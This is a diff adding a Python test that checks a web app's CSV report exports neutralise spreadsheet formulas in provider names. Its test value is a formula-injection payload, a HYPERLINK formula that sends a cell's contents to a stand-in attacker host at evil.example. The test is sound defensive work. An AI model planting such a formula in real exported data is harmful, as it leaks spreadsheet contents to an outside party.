@@ -112,3 +112,24 @@ async def test_a_provider_cannot_declare_availability_without_end(world: World) 
     await alpha("DELETE", f"/api/availability/{posted[0]['id']}", expect=204)
     await alpha("POST", "/api/availability", slot, expect=201)  # deleting one makes room
     assert len(await alpha("GET", "/api/availability", expect=200)) == 100
+
+
+async def test_a_provider_name_is_never_a_formula_in_a_report_spreadsheet(world: World) -> None:
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    provider = await world.broker("POST", "/api/providers", provider_body(name, email="evil@providers.test"), expect=201)
+    await world.post()  # matches it, so it is in the response-rate figures
+    response = await world.broker.raw("GET", "/api/reports/summary", params={"format": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert ["providers", provider["id"], "'" + name] in rows
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    async with page_client(world, world.broker.token) as http:
+        for chart in ("response-rate", "hours-spread"):
+            response = await http.get(f"/broker/reports/{chart}.csv")
+            assert response.status_code == 200
+            cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), chart
+        rates = list(csv.reader(io.StringIO((await http.get("/broker/reports/response-rate.csv")).text)))
+        assert ["'" + name, "0%", "no"] in rates
+    # The JSON keeps the name as it was typed.
+    assert (await world.broker("GET", "/api/reports/summary", expect=200))["providers"][provider["id"]] == name
